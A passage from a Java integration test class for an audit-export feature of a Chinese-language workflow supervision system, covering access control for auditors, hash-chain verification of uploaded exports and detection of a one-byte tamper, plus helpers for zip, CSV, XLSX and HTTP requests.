            assertThat(first.get("requestedAt").asText()).matches("\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d.*");
        }
        for (String user : List.of("axclerk", "axsupervisor")) {
            for (String path : List.of("/duban/api/audit/exports", "/duban/api/audit/choices")) {
                HttpResponse<byte[]> response = get(user, path);
                assertThat(response.statusCode()).as(user + " " + path).isEqualTo(403);
                assertThat(new String(response.body(), StandardCharsets.UTF_8)).contains("只有审计人员");
            }
            assertThat(post(user, "/duban/api/audit/verify?name=x.zip", new byte[] {1}).statusCode()).isEqualTo(403);
        }
        assertThat(get(null, "/duban/api/audit/exports").statusCode()).isEqualTo(401);
    }

    @Test
    void uploadedExportVerifiesAgainstItsRecordAndOneChangedByteFailsNamingTheTable(@org.junit.jupiter.api.io.TempDir Path folder)
            throws Exception {
        Path file = folder.resolve("upload.zip");
        ExportResult result = export(filterOf(commitment), ExportFormat.CSV, file);

        HttpResponse<byte[]> good = post(AUDITOR, "/duban/api/audit/verify?name=upload.zip", Files.readAllBytes(file));
        JsonNode passed = new ObjectMapper().readTree(good.body());
        assertThat(good.statusCode()).isEqualTo(200);
        assertThat(passed.get("passed").asBoolean()).isTrue();
        assertThat(passed.get("message").asText()).isEqualTo(ExportVerifier.verify(file).report()).startsWith("校验通过：upload.zip");
        assertThat(passed.get("exportId").asLong()).isEqualTo(result.exportId());
        assertThat(passed.at("/record/matches").asBoolean()).isTrue();
        assertThat(passed.at("/record/message").asText()).isEqualTo("链式哈希与导出记录 #" + result.exportId() + " 一致");

        Map<String, byte[]> files = unzip(file);
        byte[] reports = files.get("progress_report.csv").clone();
        reports[reports.length - 5] ^= 0x01;
        files.put("progress_report.csv", reports);
        Path altered = zip(folder.resolve("altered.zip"), files);
        HttpResponse<byte[]> bad = post("axadmin", "/duban/api/audit/verify?name=altered.zip", Files.readAllBytes(altered));
        JsonNode failed = new ObjectMapper().readTree(bad.body());
        assertThat(bad.statusCode()).isEqualTo(200);
        assertThat(failed.get("passed").asBoolean()).isFalse();
        assertThat(failed.get("problems")).singleElement().asString().contains("progress_report.csv", "已被改动");
        assertThat(failed.get("message").asText()).startsWith("校验未通过：altered.zip");

        Map<String, Integer> refusals = Map.of("not an export", 422, "", 400);
        for (Map.Entry<String, Integer> refusal : refusals.entrySet()) {
            HttpResponse<byte[]> response = post(AUDITOR, "/duban/api/audit/verify?name=x.zip",
                    refusal.getKey().getBytes(StandardCharsets.UTF_8));
            assertThat(response.statusCode()).as(refusal.getKey()).isEqualTo(refusal.getValue());
            assertThat(new ObjectMapper().readTree(response.body()).get("message").asText()).containsPattern("\\p{IsHan}")
                    .doesNotContain("Exception", "java.");
        }
    }

    @Test
    void pageUploadNeedsTheSessionsTokenAndAWebappLogin() throws Exception {
        HttpResponse<byte[]> anonymous = post(null, "/duban/audit/verify?name=x.zip", new byte[] {1, 2, 3});
        assertThat(anonymous.statusCode()).isEqualTo(401);
        assertThat(new String(anonymous.body(), StandardCharsets.UTF_8)).contains("需要登录");
    }

    /** Row counts from the engine's public history API where it offers one, else by SQL; duban's tables by SQL. */
    private Map<String, Long> expectedCounts(String processInstance) {
        HistoryService history = engine.getHistoryService();
        boolean one = processInstance != null;
        Map<String, Long> counts = new LinkedHashMap<>();
        var processes = history.createHistoricProcessInstanceQuery();
        counts.put("process_instance", one ? processes.processInstanceId(processInstance).count() : processes.count());
        var activities = history.createHistoricActivityInstanceQuery();
        counts.put("activity_instance", one ? activities.processInstanceId(processInstance).count() : activities.count());
        var tasks = history.createHistoricTaskInstanceQuery();
        counts.put("task_instance", one ? tasks.processInstanceId(processInstance).count() : tasks.count());
        var details = history.createHistoricDetailQuery();
        counts.put("variable_change", one ? details.processInstanceId(processInstance).count() : details.count());
        var operations = history.createUserOperationLogQuery();
        counts.put("user_operation", one ? operations.processInstanceId(processInstance).count() : operations.count());
        counts.put("identity_link", one ? sqlCount("ACT_HI_IDENTITYLINK where ROOT_PROC_INST_ID_ = ?", processInstance)
                : history.createHistoricIdentityLinkLogQuery().count());
        counts.put("comment", one ? sqlCount("ACT_HI_COMMENT where ROOT_PROC_INST_ID_ = ?", processInstance) : sqlCount("ACT_HI_COMMENT"));
        counts.put("attachment", one ? engine.getTaskService().getProcessInstanceAttachments(processInstance).size()
                : sqlCount("ACT_HI_ATTACHMENT"));
        var incidents = history.createHistoricIncidentQuery();
        counts.put("incident", one ? incidents.processInstanceId(processInstance).count() : incidents.count());
        var decisions = history.createHistoricDecisionInstanceQuery().includeInputs().includeOutputs();
        List<HistoricDecisionInstance> evaluated = one ? decisions.processInstanceId(processInstance).list() : decisions.list();
        counts.put("decision_evaluation", (long) evaluated.size());
        counts.put("decision_input", evaluated.stream().mapToLong(decision -> decision.getInputs().size()).sum());
        counts.put("decision_output", evaluated.stream().mapToLong(decision -> decision.getOutputs().size()).sum());
        String commitmentFilter = one ? " where commitment_id = '" + commitment + "'" : "";
        counts.put("commitment", sqlCount("commitment" + (one ? " where id = '" + commitment + "'" : "")));
        for (String table : List.of("commitment_baseline", "report_period", "progress_report", "rating_record", "milestone_check",
                "supervision_notice", "change_request", "closure_record", "evidence_file")) {
            counts.put(table, sqlCount(table + commitmentFilter));
        }
        counts.put("scorecard", sqlCount("scorecard where status = 'PUBLISHED'"));
        counts.put("scorecard_row", sqlCount("scorecard_row r join scorecard s on s.id = r.scorecard_id where s.status = 'PUBLISHED'"
                + (one ? " and r.bureau_id = (select lead_bureau_id from commitment where id = '" + commitment + "')" : "")));
        counts.put("scorecard_explanation", sqlCount("scorecard_explanation e join scorecard s on s.id = e.scorecard_id "
                + "where s.status = 'PUBLISHED'"
                + (one ? " and e.bureau_id = (select lead_bureau_id from commitment where id = '" + commitment + "')" : "")));
        return counts;
    }

    private long sqlCount(String from, Object... parameters) {
        Long count = jdbc.queryForObject("select count(*) from " + from, Long.class, parameters);
        return count == null ? 0 : count;
    }

    private ExportResult export(ExportFilter filter, ExportFormat format, Path file) throws IOException {
        try (OutputStream out = Files.newOutputStream(file)) {
            return exporter.export(filter, format, AUDITOR, "test", out);
        }
    }

    private static ExportFilter filterOf(String commitment) {
        return new ExportFilter(List.of(commitment), List.of(), null, null);
    }

    private static Map<String, byte[]> unzip(Path file) throws IOException {
        Map<String, byte[]> files = new LinkedHashMap<>();
        try (ZipInputStream zip = new ZipInputStream(Files.newInputStream(file), StandardCharsets.UTF_8)) {
            for (ZipEntry entry; (entry = zip.getNextEntry()) != null; ) {
                files.put(entry.getName(), zip.readAllBytes());
            }
        }
        return files;
    }

    private static Path zip(Path file, Map<String, byte[]> files) throws IOException {
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(file), StandardCharsets.UTF_8)) {
            for (Map.Entry<String, byte[]> entry : files.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue());
                zip.closeEntry();
            }
        }
        return file;
    }

    /** Every record of a CSV file, header first, null fields as empty text. */
    private static List<List<String>> csv(byte[] bytes) throws IOException {
        String text = new String(bytes, StandardCharsets.UTF_8);
        Csv.Reader reader = new Csv.Reader(new StringReader(text.startsWith(Csv.BOM) ? text.substring(1) : text));
        List<List<String>> records = new ArrayList<>();
        for (List<String> record; (record = reader.next()) != null; ) {
            records.add(record);
        }
        return records;
    }

    /** Each table's sheet as rows of column → cell text (absent cells as null), read back with Apache POI. */
    private static Map<String, List<Map<String, String>>> readWorkbook(Path file) throws IOException {
        Map<String, List<Map<String, String>>> sheets = new LinkedHashMap<>();
        try (XSSFWorkbook workbook = new XSSFWorkbook(Files.newInputStream(file))) {
            Map<String, String> tableOfSheet = new HashMap<>();
            for (Row row : workbook.getSheet(XlsxWriter.MANIFEST_SHEET)) {
                if (row.getCell(6) != null && "file".equals(row.getCell(6).getStringCellValue())) {
                    tableOfSheet.put(row.getCell(0).getStringCellValue(), row.getCell(1).getStringCellValue());
                }
            }
            for (Sheet sheet : workbook) {
                if (sheet.getSheetName().equals(XlsxWriter.MANIFEST_SHEET)) {
                    continue;
                }
                // row 0: Chinese headers; row 1: field names
                Row header = sheet.getRow(1);
                List<Map<String, String>> rows = new ArrayList<>();
                for (int r = 2; r <= sheet.getLastRowNum(); r++) {
                    Row row = sheet.getRow(r);
                    Map<String, String> values = new HashMap<>();
                    for (int c = 0; c < header.getLastCellNum(); c++) {
                        var cell = row == null ? null : row.getCell(c);
                        values.put(header.getCell(c).getStringCellValue(), cell == null ? null : cell.getStringCellValue());
                    }
                    rows.add(values);
                }
                sheets.put(tableOfSheet.get(sheet.getSheetName()), rows);
            }
        }
        return sheets;
    }

    private HttpResponse<byte[]> get(String user, String path) throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path)).GET();
        if (user != null) {
            request.header("Authorization", "Basic " + Base64.getEncoder()
                    .encodeToString((user + ":" + PASSWORD).getBytes(StandardCharsets.UTF_8)));
        }
        return http.send(request.build(), HttpResponse.BodyHandlers.ofByteArray());
    }

    private HttpResponse<byte[]> post(String user, String path, byte[] body) throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
                .header("Content-Type", "application/octet-stream").POST(HttpRequest.BodyPublishers.ofByteArray(body));
        if (user != null) {
            request.header("Authorization", "Basic " + Base64.getEncoder()
                    .encodeToString((user + ":" + PASSWORD).getBytes(StandardCharsets.UTF_8)));
        }
        return http.send(request.build(), HttpResponse.BodyHandlers.ofByteArray());
    }

    private long exportRecords() {
        return sqlCount("export_record");
    }

    private static String time(Date date) {
        return date == null ? null : Cells.time(LocalDateTime.ofInstant(date.toInstant(), ZoneId.systemDefault()));
    }

    private static Date date(LocalDateTime time) {
        return Date.from(time.atZone(ZoneId.systemDefault()).toInstant());
    }

    private void user(String id, String group) {
        if (engine.getIdentityService().createUserQuery().userId(id).count() == 0) {
            User user = engine.getIdentityService().newUser(id);
            user.setFirstName(id);
            user.setLastName("测试");
            user.setPassword(PASSWORD);
            engine.getIdentityService().saveUser(user);
            engine.getIdentityService().createMembership(id, group);
        }
    }
}
